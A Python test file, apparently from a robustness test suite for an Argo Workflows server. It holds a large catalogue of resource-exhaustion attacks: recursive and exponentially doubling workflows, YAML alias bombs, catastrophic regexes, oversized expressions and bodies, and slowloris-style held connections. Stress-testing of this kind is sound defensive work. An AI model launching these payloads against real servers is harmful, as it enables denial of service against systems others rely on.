"""Bombs of the first kind: what is large, deep, or calls itself."""

from __future__ import annotations

import contextlib
import json
import socket
import time
from collections.abc import Callable
from typing import Any

from attacks import CORE, LASTS, RUNS, Attack, Server, raw, request, said, together
from workflows import (
    CONFIG_MAP,
    ECHO,
    TRUE,
    Json,
    each,
    expression,
    given,
    itself,
    many_tasks,
    nested,
    resource,
    shell,
    step,
    task,
    tree,
    workflow,
)


def doubling(levels: int) -> Json:
    """Each template hands twice its input to the next."""
    doubled = given("{{inputs.parameters.x}}{{inputs.parameters.x}}")
    templates: list[Json] = [
        {"name": "m", "steps": [[{"name": "s", "template": "t0", "arguments": given("0123456789")}]]}
    ]
    for level in range(levels):
        call = {"name": "s", "template": f"t{level + 1}", "arguments": doubled}
        templates.append({"name": f"t{level}", "inputs": {"parameters": [{"name": "x"}]}, "steps": [[call]]})
    return workflow(*templates, ECHO | {"name": f"t{levels}"})


LAUGHS = "a0: &a0 [x,x,x,x,x,x,x,x,x,x]\n" + "".join(
    f"a{n}: &a{n} [{','.join([f'*a{n - 1}'] * 10)}]\n" for n in range(1, 9)
)

WORKFLOWS: dict[str, Callable[[], Json]] = {
    "loop: count 100,000": lambda: step(withSequence={"count": "100000"}),
    "loop: count 40,000 in a DAG": lambda: task(withSequence={"count": "40000"}),
    "loop: count 40,000 in steps": lambda: step(withSequence={"count": "40000"}),
    "loop: count 1e9": lambda: step(withSequence={"count": "1000000000"}),
    "loop: end 999999999": lambda: task(withSequence={"end": "999999999"}),
    "loop: count 10 to the 30": lambda: step(withSequence={"count": "1" + "0" * 30}),
    "loop: count of 5,000 digits": lambda: step(withSequence={"count": "9" * 5000}),
    "loop: from 10 to the 18 to its negative": lambda: step(withSequence={"start": "9" * 18, "end": "-" + "9" * 18}),
    "loop: format %0999999999d": lambda: step(withSequence={"count": "2", "format": "%0999999999d"}),
    "loop: format %999999d, 1,000 times": lambda: step(withSequence={"count": "1000", "format": "%999999d"}),
    "loop: format of 10,000 %d": lambda: step(withSequence={"count": "1000", "format": "%d" * 10000}),
    "loop: withParam of 2.5 million": lambda: step(withParam="[" + ",".join(["1"] * 2_500_000) + "]"),
    "loop: withParam of 200,000 objects": lambda: task(withParam=json.dumps([{"a": n} for n in range(200_000)])),
    "loop: withParam 100,000 deep": lambda: step(withParam=nested(100_000)),
    "loop: withItems of 100,000": lambda: step(withItems=list(range(100_000))),
    "loop: withItems of 20 with 3,000 keys each": lambda: step(withItems=[{f"k{n}": n for n in range(3000)}] * 20),
    "loop: one item of 5 MB, 10 times": lambda: task(withItems=["x" * 500_000] * 10),
    "loop: 300 x 300": lambda: tree(2, 300),
    "loop: 40 x 40 x 40": lambda: tree(3, 40),
    "loop: a million of which none runs": lambda: step(withSequence={"count": "1000000"}, when="false"),
    "recursion: once": lambda: itself(1),
    "recursion: twice": lambda: itself(2),
    "recursion: twice, DAG": lambda: itself(2, "dag"),
    "recursion: 50 times": lambda: itself(50),
    "recursion: a loop of itself": lambda: workflow(
        {"name": "m", "steps": [[{"name": "s", "template": "m", "withSequence": {"count": 3}}]]}
    ),
    "recursion: an exit handler of itself": lambda: workflow(
        {"name": "m", "steps": [[{"name": "s", "template": "t", "onExit": "m"}, {"name": "u", "template": "m"}]]}, TRUE
    ),
    "text: doubled 40 times": lambda: doubling(40),
    "text: doubled 24 times": lambda: doubling(24),
    "text: a parameter of 20 MB": lambda: workflow(
        ECHO | {"name": "m"}, arguments={"parameters": [{"name": "x", "value": "x" * 20_000_000}]}
    ),
    "text: 1 MB to each of 1,000 items": lambda: workflow(
        {"name": "m", "dag": {"tasks": [{"name": "s", "template": "e", "withSequence": {"count": 1000},
                                         "arguments": given("{{workflow.parameters.big}}")}]}},
        ECHO, arguments={"parameters": [{"name": "big", "value": "x" * 1_000_000}]},
    ),  # fmt: skip
    "text: 10,000 parameters": lambda: workflow(
        TRUE | {"name": "m"}, arguments={"parameters": [{"name": f"p{n}", "value": "x"} for n in range(10_000)]}
    ),
    "text: a tag of 1 million braces": lambda: step(when="{{" * 500_000),
    "text: 20,000 tags": lambda: workflow(
        {"name": "m", "steps": [[{"name": "s", "template": "e", "arguments": given("{{workflow.name}}" * 20_000)}]]}, ECHO
    ),
    "templates: 20,000": lambda: workflow(
        TRUE | {"name": "m"}, *[TRUE | {"name": f"t{n}"} for n in range(20_000)]
    ),
    "templates: 500 that call 500": lambda: workflow(
        {"name": "m", "steps": [[{"name": "s", "template": "t0"}]]},
        *[{"name": f"t{n}", "steps": [[{"name": f"s{k}", "template": f"t{n + 1}"} for k in range(20)]]} for n in range(90)],
        TRUE | {"name": "t90"},
    ),
    "tasks: 20,000": lambda: many_tasks(20_000, lambda n: []),
    "tasks: 1,500, each after all before it": lambda: many_tasks(1500, lambda n: [f"t{k}" for k in range(n)]),
    "tasks: a chain of 5,000": lambda: many_tasks(5000, lambda n: [f"t{n - 1}"] if n else []),
    "tasks: layers of 200": lambda: many_tasks(
        2000, lambda n: [f"t{k}" for k in range((n // 200 - 1) * 200, n // 200 * 200)] if n >= 200 else []
    ),
    "tasks: depends 5,000 brackets deep": lambda: workflow(
        {"name": "m", "dag": {"tasks": [{"name": "a", "template": "t"},
                                        {"name": "b", "template": "t", "depends": nested(5000, "(", ")").replace("()", "(a)")}]}},
        TRUE,
    ),  # fmt: skip
    "tasks: depends of 50,000 names": lambda: workflow(
        {"name": "m", "dag": {"tasks": [{"name": "a", "template": "t"},
                                        {"name": "b", "template": "t", "depends": " && ".join(["a"] * 50_000)}]}},
        TRUE,
    ),  # fmt: skip
    "steps: 10,000 groups": lambda: workflow(
        {"name": "m", "steps": [[{"name": f"s{n}", "template": "t", "when": "false"}] for n in range(10_000)]}, TRUE
    ),
    "expression: 1+1+… of 50,000": lambda: expression("+".join(["1"] * 50_000)),
    "expression: 1+1+… of 4,000, 500 times": lambda: each("+".join(["1"] * 4000)),
    "expression: map of map 3000 x 3000": lambda: expression("len(map(1..3000, {map(1..3000, {1})}))"),
    "expression: map of map 300 x 300, 500 times": lambda: each("len(map(1..300, {map(1..300, {1})}))"),
    "expression: 20 ranges of 900,000": lambda: expression("len([" + ",".join(["1..900000"] * 20) + "])"),
    "expression: sort of 900,000": lambda: expression("len(sort(map(1..900000, {-#})))"),
    "expression: reduce that doubles a text": lambda: expression('len(reduce(1..60, {#acc + #acc}, "xxxxxxxx"))'),
    "expression: reduce that doubles a list": lambda: expression("len(reduce(1..40, {concat(#acc, #acc)}, [1,2,3]))"),
    "expression: toJson of lists in lists": lambda: expression(
        "let a = [1,2,3,4,5,6,7,8,9,0]; " + "".join(
            f"let {chr(98 + n)} = [{','.join([chr(97 + n)] * 10)}]; " for n in range(9)) + "toJson(j)"
    ),
    "expression: 5,000 brackets": lambda: expression(nested(5000, "(", ")").replace("()", "(1)")),
    "expression: repeat 1e9": lambda: expression('repeat("a", 1000000000)'),
    "expression: repeat 1e6 of repeat 1e3": lambda: expression('repeat(repeat("a", 1000), 1000000)'),
    "expression: 100 texts of 40 million": lambda: each('len(repeat("a", 40000000))', 100),
    "expression: split of 40 million": lambda: expression('len(split(repeat("a,", 20000000), ","))'),
    "expression: replace that grows": lambda: expression(
        'len(replace(replace(replace(repeat("a", 1000), "a", repeat("b", 1000)), "b", repeat("c", 1000)), "c", "dddddd"))'
    ),
    "expression: bitshl": lambda: expression("bitshl(1, 4000000000)"),
    "expression: 10 ** 10 ** 10": lambda: expression("10 ** 10 ** 10 ** 10"),
    "expression: int of 100,000 digits": lambda: expression('int(repeat("9", 100000))'),
    "expression: fromJson of 100,000 brackets": lambda: expression('fromJSON(repeat("[", 100000) + repeat("]", 100000))'),
    "expression: fromJson of 10 MB": lambda: expression('len(fromJSON("[" + repeat("1,", 5000000) + "1]"))'),
    "sprig: repeat": lambda: expression('sprig.repeat(1000000000, "a")'),
    "sprig: until, untilStep, seq": lambda: expression(
        "len(sprig.until(100000000)) + len(sprig.untilStep(0, 100000000, 1)) + len(sprig.seq(0, 1, 100000000))"
    ),
    "sprig: indent": lambda: expression('sprig.indent(1000000000, "a")'),
    "sprig: nindent of many lines": lambda: expression('len(sprig.nindent(10000, repeat("\\n", 100000)))'),
    "sprig: wrap": lambda: expression('len(sprig.wrapWith(1, repeat("x", 100000), repeat("a", 100000)))'),
    "sprig: round to 10 to the 9 digits": lambda: expression("sprig.round(1.5, 1000000000)"),
    "sprig: randAlpha": lambda: expression("len(sprig.randAlphaNum(1000000000))"),
    "sprig: list of lists": lambda: expression("len(sprig.chunk(1, 1..900000))"),
    "sprig: uniq of 100,000": lambda: expression("len(sprig.uniq(map(1..30000, {[#]})))"),
    "sprig: semver of 100,000 digits": lambda: expression('sprig.semverCompare("^" + repeat("9", 100000), "1.2.3")'),
    "regex: (a+)+$": lambda: expression('repeat("a", 40000) + "b" matches "(a+)+$"'),
    "regex: a{1000}{1000}": lambda: expression('"a" matches "((a{1000}){1000}){1000}"'),
    "regex: 1,000 patterns": lambda: each('repeat("a", 1000) matches "(a|b|{{item}}){1,500}$"', 1000),
    "regex: findall of 10 million": lambda: expression('len(sprig.regexFindAll("a", repeat("a", 10000000), -1))'),
    "regex: replace that grows": lambda: expression(
        'len(sprig.regexReplaceAll("a", repeat("a", 100000), repeat("b", 100000)))'
    ),
    "regex: when =~": lambda: step(when="'" + "a" * 50_000 + "b' =~ '(a*)*(a*)*(a*)*$'"),
    "jsonpath: $..*..*..*..*": lambda: expression(
        'jsonpath(workflow.parameters.d, "$..*..*..*..*")', d=nested(30, '{"a":[1,2,{"b":', "}]}").replace(":}", ":1}")
    ),
    "jsonpath: of 5 MB": lambda: expression('jsonpath(workflow.parameters.d, "$..a")', d=json.dumps([{"a": 1}] * 500_000)),
    "jsonpath: a filter with a script": lambda: expression(
        'jsonpath(workflow.parameters.d, "$[?(@ == 1 || @ == 2)]")', d=json.dumps(list(range(100_000)))
    ),
    "when: 20,000 conditions": lambda: step(when=" && ".join(["1 == 1"] * 20_000)),
    "when: 10,000 brackets": lambda: step(when=nested(10_000, "(", ")").replace("()", "(1 == 1)")),
    "when: a number of 100,000 digits": lambda: step(when="9" * 100_000 + " > 1"),
    "retry: expression": lambda: workflow(
        {"name": "m", "container": {"image": "busybox", "command": ["false"]},
         "retryStrategy": {"limit": 3, "expression": "len(map(1..3000, {map(1..3000, {1})})) > 0"}}
    ),  # fmt: skip
    "retry: limit 1e9 without a pause": lambda: workflow(
        {"name": "m", "container": {"image": "busybox", "command": ["false"]}, "retryStrategy": {"limit": "1000000000"}}
    ),
    "retry: backoff to the power of 1e9": lambda: workflow(
        {"name": "m", "container": {"image": "busybox", "command": ["false"]},
         "retryStrategy": {"limit": 10**9, "backoff": {"duration": "1", "factor": "999999999", "maxDuration": "9" * 15}}}
    ),  # fmt: skip
    "hooks: 5,000": lambda: step(
        hooks={f"h{n}": {"template": "t", "expression": "steps.s.status == 'Running'"} for n in range(5000)}
    ),
    "locks: 5,000": lambda: workflow(
        TRUE | {"name": "m", "synchronization": {"mutexes": [{"name": f"m{n}"} for n in range(5000)]}}
    ),
    "metrics: 5,000": lambda: workflow(
        TRUE | {"name": "m", "metrics": {"prometheus": [
            {"name": f"m{n}", "help": "x", "counter": {"value": "1"}, "labels": [{"key": "k", "value": "{{workflow.uid}}"}]}
            for n in range(5000)]}}
    ),  # fmt: skip
    "memoize: a key of 40 million": lambda: workflow(
        ECHO | {"name": "m", "inputs": {"parameters": [{"name": "x", "value": "1"}]},
                "memoize": {"key": '{{=repeat("a", 40000000)}}', "cache": {"configMap": {"name": "c"}}}}
    ),  # fmt: skip
    "artifacts: 10,000 inputs": lambda: workflow(
        TRUE | {"name": "m", "inputs": {"artifacts": [
            {"name": f"a{n}", "path": f"/tmp/a{n}", "raw": {"data": "x"}} for n in range(10_000)]}}
    ),  # fmt: skip
    "artifacts: 10,000 outputs": lambda: workflow(
        TRUE | {"name": "m", "outputs": {"artifacts": [
            {"name": f"a{n}", "path": f"/tmp/a{n}", "optional": True} for n in range(10_000)]}}
    ),  # fmt: skip
    "pod: podSpecPatch of 100,000 aliases": lambda: workflow(TRUE | {"name": "m", "podSpecPatch": LAUGHS}),
    "pod: podSpecPatch 50,000 deep": lambda: workflow(TRUE | {"name": "m", "podSpecPatch": nested(50_000, '{"a":', "}")}),
    "pod: podSpecPatch of 3 MB YAML": lambda: workflow(
        TRUE | {"name": "m", "podSpecPatch": "containers:\n" + "- name: main\n  env: [{name: a, value: b}]\n" * 70_000}
    ),
    "pod: 20,000 variables": lambda: workflow(
        {"name": "m", "container": {"image": "busybox", "command": ["true"],
                                    "env": [{"name": f"V{n}", "value": f"$(V{n - 1})$(V{n - 1})"} for n in range(20_000)]}}
    ),  # fmt: skip
    "pod: variables that double": lambda: workflow(
        {"name": "m", "container": {"image": "busybox", "command": ["true"],
                                    "env": [{"name": f"V{n}", "value": f"$(V{n - 1})$(V{n - 1})" if n else "xxxx"} for n in range(64)]}}
    ),  # fmt: skip
    "pod: 10,000 volumes": lambda: workflow(
        {"name": "m", "container": {"image": "busybox", "command": ["true"]},
         "volumes": [{"name": f"v{n}", "emptyDir": {}} for n in range(10_000)]}
    ),  # fmt: skip
    "pod: 2,000 containers": lambda: workflow(
        {"name": "m", "containerSet": {"containers": [
            {"name": f"c{n}", "image": "busybox", "command": ["true"]} for n in range(2000)]}}
    ),  # fmt: skip
    "pod: memory 1e999999999": lambda: workflow(
        {"name": "m", "container": {"image": "busybox", "command": ["true"],
                                    "resources": {"requests": {"memory": "1e999999999", "cpu": "1" + "0" * 9000}}}}
    ),  # fmt: skip
    "pod: a deadline of 300 digits": lambda: workflow(TRUE | {"name": "m", "activeDeadlineSeconds": 10**300}),
    "metadata: 100,000 labels": lambda: step() | {
        "metadata": {"generateName": "bomb-", "labels": {f"l{n}": "x" for n in range(100_000)}}},
    "metadata: annotations of 10 MB": lambda: step() | {
        "metadata": {"generateName": "bomb-", "annotations": {"a": "x" * 10_000_000}}},
    "metadata: labelsFrom of 3,000": lambda: step() | {"spec": step()["spec"] | {
        "workflowMetadata": {"labelsFrom": {f"l{n}": {"expression": "len(map(1..1000, {1})) > 0 ? 'a' : 'b'"} for n in range(3000)}}}},
    "metadata: a name of 10 MB": lambda: step() | {"metadata": {"name": "x" * 10_000_000}},
    "claims: 5,000": lambda: workflow(
        TRUE | {"name": "m"},
        volumeClaimTemplates=[
            {"metadata": {"name": f"c{n}"},
             "spec": {"accessModes": ["ReadWriteOnce"], "resources": {"requests": {"storage": "1Gi"}}}} for n in range(5000)],
    ),  # fmt: skip
    "output: 100 MB in one line": lambda: shell("head -c 100000000 /dev/zero | tr '\\0' x"),
    "output: 3 million lines": lambda: shell("yes | head -n 3000000"),
    "output: a parameter of 100 MB": lambda: shell(
        "head -c 100000000 /dev/zero | tr '\\0' x > /tmp/p",
        outputs={"parameters": [{"name": "p", "valueFrom": {"path": "/tmp/p"}}]},
    ),
    "output: a result of 100 MB": lambda: workflow(
        {"name": "m", "steps": [[{"name": "a", "template": "t"}],
                                [{"name": "b", "template": "e", "arguments": given("{{steps.a.outputs.result}}")}]]},
        {"name": "t", "script": {"image": "busybox", "command": ["sh"], "source": "head -c 100000000 /dev/zero | tr '\\0' x"}},
        ECHO,
    ),  # fmt: skip
    "resource: YAML of aliases": lambda: resource(CONFIG_MAP + LAUGHS),
    "resource: YAML of 3 MB": lambda: resource(CONFIG_MAP + "x:\n" + "- {a: b}\n" * 300_000),
    "resource: jq without end": lambda: resource(CONFIG_MAP, successCondition="data.a == b") | {},
    "data: an expression": lambda: workflow(
        {"name": "m", "data": {"source": {"artifactPaths": {"name": "a", "raw": {"data": "x"}}},
                               "transformation": [{"expression": "map(1..3000, {map(1..3000, {1})})"}]}}
    ),  # fmt: skip
    "jq: repeat": lambda: workflow(
        {"name": "m", "resource": {"action": "get", "manifest": "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: kube-root-ca.crt}"},
         "outputs": {"parameters": [{"name": "p", "valueFrom": {"jqFilter": "[repeat(1)]"}},
                                    {"name": "q", "valueFrom": {"jqFilter": "range(1e15)"}}]}}
    ),  # fmt: skip
}  # fmt: skip


def connections(count: int, text: bytes) -> Attack:
    """Many connections that begin a request and never end it."""

    def attack(server: Server) -> str:
        held: list[socket.socket] = []
        try:
            for _ in range(count):
                with contextlib.suppress(OSError):
                    held.append(socket.create_connection(server.argo, timeout=2))
                    held[-1].sendall(text)
            time.sleep(LASTS)
            gone = 0
            for one in held:
                one.setblocking(False)
                try:
                    gone += one.recv(1, socket.MSG_PEEK) == b""
                except BlockingIOError:
                    pass
                except OSError:
                    gone += 1
            return f"{len(held)} opened, {gone} were closed by the server"
        finally:
            for one in held:
                one.close()

    return attack


def copies(server: Server) -> str:
    """A JSON patch each of whose operations doubles the document."""
    server.call(
        "POST", f"{CORE}/configmaps", {"metadata": {"name": "copied"}, "data": {"a": "x" * 1000}}, kubernetes=True
    )
    patch = [{"op": "copy", "from": "/data", "path": f"/data/b{n}"} for n in range(30)]
    return said(*server.call("PATCH", f"{CORE}/configmaps/copied", patch, kubernetes=True,
                             headers=[("Content-Type", "application/json-patch+json")]))  # fmt: skip


def cron(name: str, **spec: Any) -> Attack:
    def attack(server: Server) -> str:
        document = {
            "metadata": {"name": name},
            "spec": {"schedules": ["* * * * *"], "workflowSpec": step()["spec"], **spec},
        }
        answer = said(*server.call("POST", "/api/v1/cron-workflows/default", {"cronWorkflow": document}))
        time.sleep(2)
        server.call("DELETE", f"/api/v1/cron-workflows/default/{name}")
        return answer

    return attack


HEAD = b"GET /api/v1/version HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer TOKEN\r\n"
APPLY = [("Content-Type", "application/apply-patch+yaml")]
REQUESTS: dict[str, Attack] = {
    "headers: 5,000": raw(HEAD + b"".join(b"X-%d: y\r\n" % n for n in range(5000)) + b"\r\n"),
    "headers: 20,000": raw(HEAD + b"".join(b"X-%d: y\r\n" % n for n in range(20_000)) + b"\r\n"),
    "headers: 20,000 of one name": raw(HEAD + b"X: y\r\n" * 20_000 + b"\r\n"),
    "headers: one of 50 MB": raw(HEAD + b"X: ", b"y" * 1_000_000, 50),
    "headers: a line a second": raw(HEAD, b"X: y\r\n", 15, 1.0),
    "url: 10 MB": raw(b"GET /api/v1/version?", b"a" * 1_000_000, 10),
    "url: 50,000 query parameters": raw(HEAD.replace(b"version", b"version?" + b"a=b&" * 15_000) + b"\r\n"),
    "connections: 1,500 that begin": connections(1500, b"GET /api/v1/version HTTP/1.1\r\nHost: a\r\nX: "),
    "connections: 1,500 silent": connections(1500, b""),
    "connections: 1,000 with a body to come": connections(
        1000, b"POST /api/v1/workflows/default HTTP/1.1\r\nHost: localhost\r\nContent-Length: 999\r\n\r\n{"),
    "body: 60 MB of []": request("POST", RUNS, lambda: b"[" + b"[]," * 20_000_000 + b"[]]"),
    "body: 60 MB of numbers": request("POST", RUNS, lambda: b'{"workflow":{"x":[' + b"1," * 30_000_000 + b"1]}}"),
    "body: 60 MB of short keys": request(
        "POST", RUNS, lambda: json.dumps({"workflow": {"spec": {f"{n}": 1 for n in range(3_000_000)}}}).encode()),
    "body: 60 MB text": request("POST", RUNS, lambda: b'{"workflow":{"x":"' + b"x" * 60_000_000 + b'"}}'),
    "body: 60 MB of escapes": request("POST", RUNS, lambda: b'{"workflow":{"x":"' + b"\\u0041" * 10_000_000 + b'"}}'),
    "body: 100 MB": request("POST", RUNS, lambda: b" " * 100_000_000),
    "body: 1 million brackets": request("POST", RUNS, lambda: b"[" * 1_000_000),
    "body: chunks without end": raw(
        b"POST /api/v1/workflows/default HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer TOKEN\r\n"
        b"Transfer-Encoding: chunked\r\n\r\n", b"F4240\r\n" + b"x" * 1_000_000 + b"\r\n", 100),
    "body: chunks of one byte": raw(
        b"POST /api/v1/workflows/default HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer TOKEN\r\n"
        b"Transfer-Encoding: chunked\r\n\r\n", b"1\r\nx\r\n" * 100_000, 10),
    "body: 20 MB, 12 clients": together(12, "POST", RUNS, lambda: {"workflow": {"x": [1] * 5_000_000}}),
    "yaml: 5 MB applied": request(
        "PATCH", f"{CORE}/configmaps/y?fieldManager=m", lambda: b"data:\n" + b"- {a: b, c: d}\n" * 330_000,
        kubernetes=True, headers=APPLY),
    "yaml: aliases": request("PATCH", f"{CORE}/configmaps/y?fieldManager=m", LAUGHS.encode, kubernetes=True, headers=APPLY),
    "yaml: 50,000 deep": request(
        "PATCH", f"{CORE}/configmaps/y?fieldManager=m", lambda: b"[" * 50_000, kubernetes=True, headers=APPLY),
    "kubernetes: a config map of 40 MB": request(
        "POST", f"{CORE}/configmaps", lambda: {"metadata": {"name": "big"}, "data": {"a": "x" * 40_000_000}}, kubernetes=True),
    "kubernetes: a patch that copies": copies,
    "kubernetes: a patch of 100,000 operations": request(
        "PATCH", f"{CORE}/configmaps/copied", lambda: [{"op": "add", "path": "/data/a", "value": "b"}] * 100_000,
        kubernetes=True, headers=[("Content-Type", "application/json-patch+json")]),
    "query: a selector of 50,000 values": request(
        "GET", f"{RUNS}?listOptions.labelSelector=a+in+(" + ",".join(["x"] * 25_000) + ")"),
    "query: 20,000 fields": request("GET", f"{RUNS}?fields=" + ",".join(["items.metadata.a"] * 3500)),
    "lint: 20,000 templates": request(
        "POST", f"{RUNS}/lint", lambda: {"workflow": WORKFLOWS["templates: 20,000"]()}),
    "lint: map of map, 30 clients": together(
        30, "POST", f"{RUNS}/lint", lambda: {"workflow": expression("len(map(1..3000, {map(1..3000, {1})}))")}),
    "submit: 200 clients": together(200, "POST", RUNS, lambda: {"workflow": step(withSequence={"count": 20})}),
    "cron: 20,000 schedules": cron("many", schedules=["* * * * *"] * 20_000),
    "cron: 30 February": cron("never", schedules=["0 0 30 2 *"]),
    "cron: a field of 1 MB": cron("wide", schedules=[",".join(["1"] * 300_000) + " * * * *"]),
    "cron: when": cron("when", when="{{= len(map(1..3000, {map(1..3000, {1})})) > 0 }}"),
    "cron: a time zone of 1 MB": cron("zone", timezone="A" * 1_000_000),
}  # fmt: skip
